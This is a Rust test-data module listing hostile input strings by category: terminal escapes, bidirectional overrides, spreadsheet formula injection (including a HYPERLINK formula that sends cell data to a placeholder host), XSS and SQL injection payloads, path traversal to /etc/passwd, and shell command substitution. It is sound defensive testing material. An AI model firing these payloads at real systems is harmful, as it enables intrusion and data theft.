//! Texts that terminals, spreadsheets, databases, paths, web pages or readers of Unicode trip over: one list for all tests.

/// What a list of texts is about, and the texts.
pub type Kind = (&'static str, &'static [&'static str]);

/// Texts by what trips over them.
pub const HOSTILE: &[Kind] = &[
    ("blank", &["", " "]),
    (
        "terminal escapes",
        &[
            "\u{1b}[2J\u{1b}[1;31mred",
            "\u{1b}]0;title\u{7}",
            "\u{1b}]8;;http://x.invalid\u{1b}\\link\u{1b}]8;;\u{1b}\\",
            "\u{1b}P1$r0m\u{1b}\\",
            "\u{1b}[6n",
            "\u{1b}c",
            "over\rwritten",
            "\u{7f}\u{8}\u{8}\u{8}",
            "a\0b",
            "\0",
            "one\rtwo\nthree\tfour",
            "feed\u{c}tab\u{b}",
        ],
    ),
    ("C1 controls", &["\u{9b}31m", "\u{9d}0;title\u{9c}", "\u{85}next line", "\u{90}q\u{9c}"]),
    (
        "direction",
        &[
            "safe\u{202e}gnp.exe",
            "\u{2066}isolated\u{2069}",
            "\u{2067}never closed",
            "\u{202b}embedded\u{202c}",
            "\u{200e}\u{200f}marks",
            "\u{61c}letter mark",
            "راه‌آهن رشت – آستارا",
            "תל אביב (port)",
        ],
    ),
    (
        "without width",
        &[
            "zero\u{200b}width",
            "jo\u{200d}iner",
            "word\u{2060}joiner",
            "soft\u{ad}hyphen",
            "\u{feff}mark",
            "a\u{e0041}\u{e007f}tag",
        ],
    ),
    (
        "formulas",
        &[
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")",
            "+1+1",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "'=1+1",
            "=1+1\n=2+2",
            "\"=1+1\"",
            ";=1+1",
            "_x003D_1+1",
        ],
    ),
    (
        "pages",
        &[
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<!--<script>",
            "]]><x>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<svg/onload=alert(1)>",
            "</title></text></svg><p>",
            "javascript:alert(1)",
            "&lt;b&gt; &amp; &#60;",
            "{{7*7}} ${7*7} <%= 7 %>",
            "</textarea><iframe src=\"//x.invalid\">",
        ],
    ),
    (
        "databases",
        &[
            "\"; DROP TABLE places; --",
            "'); DROP TABLE places;--",
            "1' OR '1'='1",
            "x\\' UNION SELECT 1--",
            "[places]",
            "`places`",
        ],
    ),
    (
        "paths",
        &[
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/dev/null",
            "C:\\con",
            "file:///etc/passwd",
            "CON",
            "a/b",
            "~root",
            "$HOME",
            "`id`",
            "$(id)",
        ],
    ),
    ("formats", &["%s%n%p", "%d%x%.1024d", "{}{0}{:?}", "%00", "%0d%0aX: y", "\\u0000\\n\\", "accept: outside-country: no"]),
    (
        "Unicode",
        &[
            "e\u{301}\u{301}\u{301}\u{301}\u{301}",
            "Z\u{351}\u{32b}\u{343}a\u{32a}\u{302}l\u{323}\u{363}g\u{311}o",
            "🚂🇮🇷👩‍👩‍👧‍👦",
            "\u{10ffff}\u{e000}",
            "\u{fffe}\u{ffff}",
            "\u{fffd}",
            "line\u{2028}paragraph\u{2029}",
            "İıſKß",
            "Моscow",
            "ﷺ",
            "東京\u{3000}港",
            "\u{1d573}\u{1d58e}",
        ],
    ),
    (
        "reserved words",
        &[
            "null",
            "None",
            "undefined",
            "true",
            "NaN",
            "-Infinity",
            "1e999",
            "0x10",
            "1,000.5",
            "2025-12-31",
            "*",
            "XZ",
            ";;;",
            "--help",
            "-o",
            "nan",
        ],
    ),
];

/// All of them, and long ones.
pub fn hostile() -> Vec<String> {
    let short = HOSTILE.iter().flat_map(|(_, texts)| *texts).map(|text| (*text).to_owned());
    short.chain(["x".repeat(20_000), "\u{202e}".repeat(500), "é;".repeat(500)]).collect()
}

/// What no message may hold: it would move the cursor, or turn the text around.
pub fn is_raw_control(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}')
}
